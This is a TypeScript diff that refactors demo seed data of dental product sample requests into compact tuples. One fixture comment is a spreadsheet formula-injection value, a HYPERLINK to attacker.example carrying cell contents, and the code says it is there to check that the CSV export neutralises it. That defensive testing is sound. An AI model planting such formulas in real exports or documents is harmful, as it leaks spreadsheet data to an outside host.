@@ -603,82 +603,84 @@ interface RequestSlot {
   comments?: string;
 }
 
-/** 48 fixed slots: company, status and age are fixed; products and free text come from a seeded PRNG. */
-const SLOTS: readonly RequestSlot[] = [
-  // lumina-dental ×12
-  { who: 0, companyId: "lumina-dental", status: "pending", daysAgo: 1 },
-  { who: 9, companyId: "lumina-dental", status: "pending", daysAgo: 3 },
-  { who: 12, companyId: "lumina-dental", status: "approved", daysAgo: 6 },
-  { who: 14, companyId: "lumina-dental", status: "completed", daysAgo: 18 },
-  { who: 22, companyId: "lumina-dental", status: "pending", daysAgo: 25 },
-  { who: 10, companyId: "lumina-dental", status: "approved", daysAgo: 41 },
-  { who: 25, companyId: "lumina-dental", status: "completed", daysAgo: 77 },
-  {
-    who: 0,
-    companyId: "lumina-dental",
-    status: "completed",
-    daysAgo: 130,
-    email: "dr.kim@example.com",
-  },
-  { who: 18, companyId: "lumina-dental", status: "rejected", daysAgo: 165 },
-  { who: 30, companyId: "lumina-dental", status: "completed", daysAgo: 240 },
-  { who: 21, companyId: "lumina-dental", status: "completed", daysAgo: 372 },
-  { who: 11, companyId: "lumina-dental", status: "rejected", daysAgo: 395 },
-  // bondline ×7
-  { who: 19, companyId: "bondline", status: "pending", daysAgo: 2 },
-  { who: 5, companyId: "bondline", status: "approved", daysAgo: 12 },
-  { who: 0, companyId: "bondline", status: "approved", daysAgo: 29, email: "DR.KIM@EXAMPLE.COM" },
-  { who: 29, companyId: "bondline", status: "completed", daysAgo: 58 },
-  { who: 24, companyId: "bondline", status: "completed", daysAgo: 143 },
-  { who: 11, companyId: "bondline", status: "rejected", daysAgo: 201 },
-  { who: 14, companyId: "bondline", status: "completed", daysAgo: 381 },
-  // precision-impression ×6
-  { who: 5, companyId: "precision-impression", status: "pending", daysAgo: 4 },
-  { who: 3, companyId: "precision-impression", status: "approved", daysAgo: 21 },
-  { who: 17, companyId: "precision-impression", status: "completed", daysAgo: 66 },
-  { who: 20, companyId: "precision-impression", status: "completed", daysAgo: 112 },
-  { who: 19, companyId: "precision-impression", status: "rejected", daysAgo: 288 },
-  { who: 29, companyId: "precision-impression", status: "completed", daysAgo: 367 },
-  // brightarc ×6
-  { who: 22, companyId: "brightarc", status: "pending", daysAgo: 5 },
-  {
-    who: 10,
-    companyId: "brightarc",
-    status: "pending",
-    daysAgo: 9,
-    email: "maria.lopez@example.com",
-  },
-  { who: 30, companyId: "brightarc", status: "approved", daysAgo: 37 },
-  {
-    who: 18,
-    companyId: "brightarc",
-    status: "completed",
-    daysAgo: 95,
-    comments: '=HYPERLINK("https://attacker.example/?q="&A1,"Click for discount")',
-  },
-  { who: 12, companyId: "brightarc", status: "rejected", daysAgo: 188 },
-  { who: 28, companyId: "brightarc", status: "completed", daysAgo: 330 },
-  // guardent ×6
-  { who: 4, companyId: "guardent", status: "pending", daysAgo: 0 },
-  { who: 16, companyId: "guardent", status: "approved", daysAgo: 15 },
-  { who: 26, companyId: "guardent", status: "completed", daysAgo: 49 },
-  { who: 6, companyId: "guardent", status: "completed", daysAgo: 156 },
-  { who: 8, companyId: "guardent", status: "rejected", daysAgo: 222 },
-  { who: 4, companyId: "guardent", status: "completed", daysAgo: 389 },
-  // endopath ×6
-  { who: 2, companyId: "endopath", status: "pending", daysAgo: 2 },
-  { who: 13, companyId: "endopath", status: "approved", daysAgo: 11 },
-  { who: 23, companyId: "endopath", status: "completed", daysAgo: 34 },
-  { who: 7, companyId: "endopath", status: "rejected", daysAgo: 120 },
-  { who: 31, companyId: "endopath", status: "completed", daysAgo: 259 },
-  { who: 2, companyId: "endopath", status: "completed", daysAgo: 399 },
-  // alignworks ×5
-  { who: 15, companyId: "alignworks", status: "pending", daysAgo: 6 },
-  { who: 1, companyId: "alignworks", status: "approved", daysAgo: 27 },
-  { who: 27, companyId: "alignworks", status: "completed", daysAgo: 88 },
-  { who: 1, companyId: "alignworks", status: "rejected", daysAgo: 176 },
-  { who: 15, companyId: "alignworks", status: "completed", daysAgo: 312 },
+/** [company, requester index, status, days ago, overrides] */
+type SlotRow = [
+  companyId: DemoCompanyWithProducts,
+  who: number,
+  status: RequestStatus,
+  daysAgo: number,
+  overrides?: Pick<RequestSlot, "email" | "comments">,
 ];
+
+/** A comment a spreadsheet would run as a formula: the CSV export must neutralise it. */
+const CSV_FORMULA_COMMENT = '=HYPERLINK("https://attacker.example/?q="&A1,"Click for discount")';
+
+/** 48 fixed slots: company, status and age are fixed; products and free text come from a seeded PRNG. */
+const SLOTS: readonly RequestSlot[] = (
+  [
+    // lumina-dental ×12
+    ["lumina-dental", 0, "pending", 1],
+    ["lumina-dental", 9, "pending", 3],
+    ["lumina-dental", 12, "approved", 6],
+    ["lumina-dental", 14, "completed", 18],
+    ["lumina-dental", 22, "pending", 25],
+    ["lumina-dental", 10, "approved", 41],
+    ["lumina-dental", 25, "completed", 77],
+    ["lumina-dental", 0, "completed", 130, { email: "dr.kim@example.com" }],
+    ["lumina-dental", 18, "rejected", 165],
+    ["lumina-dental", 30, "completed", 240],
+    ["lumina-dental", 21, "completed", 372],
+    ["lumina-dental", 11, "rejected", 395],
+    // bondline ×7
+    ["bondline", 19, "pending", 2],
+    ["bondline", 5, "approved", 12],
+    ["bondline", 0, "approved", 29, { email: "DR.KIM@EXAMPLE.COM" }],
+    ["bondline", 29, "completed", 58],
+    ["bondline", 24, "completed", 143],
+    ["bondline", 11, "rejected", 201],
+    ["bondline", 14, "completed", 381],
+    // precision-impression ×6
+    ["precision-impression", 5, "pending", 4],
+    ["precision-impression", 3, "approved", 21],
+    ["precision-impression", 17, "completed", 66],
+    ["precision-impression", 20, "completed", 112],
+    ["precision-impression", 19, "rejected", 288],
+    ["precision-impression", 29, "completed", 367],
+    // brightarc ×6
+    ["brightarc", 22, "pending", 5],
+    ["brightarc", 10, "pending", 9, { email: "maria.lopez@example.com" }],
+    ["brightarc", 30, "approved", 37],
+    ["brightarc", 18, "completed", 95, { comments: CSV_FORMULA_COMMENT }],
+    ["brightarc", 12, "rejected", 188],
+    ["brightarc", 28, "completed", 330],
+    // guardent ×6
+    ["guardent", 4, "pending", 0],
+    ["guardent", 16, "approved", 15],
+    ["guardent", 26, "completed", 49],
+    ["guardent", 6, "completed", 156],
+    ["guardent", 8, "rejected", 222],
+    ["guardent", 4, "completed", 389],
+    // endopath ×6
+    ["endopath", 2, "pending", 2],
+    ["endopath", 13, "approved", 11],
+    ["endopath", 23, "completed", 34],
+    ["endopath", 7, "rejected", 120],
+    ["endopath", 31, "completed", 259],
+    ["endopath", 2, "completed", 399],
+    // alignworks ×5
+    ["alignworks", 15, "pending", 6],
+    ["alignworks", 1, "approved", 27],
+    ["alignworks", 27, "completed", 88],
+    ["alignworks", 1, "rejected", 176],
+    ["alignworks", 15, "completed", 312],
+  ] satisfies SlotRow[]
+).map(([companyId, who, status, daysAgo, overrides]) => ({
+  companyId,
+  who,
+  status,
+  daysAgo,
+  ...overrides,
+}));
 
 const SPECIFIC_REQUESTS: readonly string[] = [
   "Shade A2 and A3 if possible.",
@@ -761,18 +763,8 @@ export function buildDemoSampleRequests(now: Date): DemoSampleRequest[] {
     );
 
     return {
-      firstName: requester.firstName,
-      lastName: requester.lastName,
+      ...requester,
       email: slot.email ?? requester.email,
-      phone: requester.phone,
-      licenseNumber: requester.licenseNumber,
-      practiceName: requester.practiceName,
-      practiceType: requester.practiceType,
-      yearsInPractice: requester.yearsInPractice,
-      street: requester.street,
-      city: requester.city,
-      state: requester.state,
-      zipCode: requester.zipCode,
       requestedProducts: products.map((p) => ({
         productId: p.id,
         productName: p.name,
@@ -780,9 +772,6 @@ export function buildDemoSampleRequests(now: Date): DemoSampleRequest[] {
       })),
       specificRequests,
       comments,
-      howHeardAbout: requester.howHeardAbout,
-      allowMarketing: requester.allowMarketing,
-      subscribeUpdates: requester.subscribeUpdates,
       agreedToTerms: true,
       companyId: slot.companyId,
       status: slot.status,
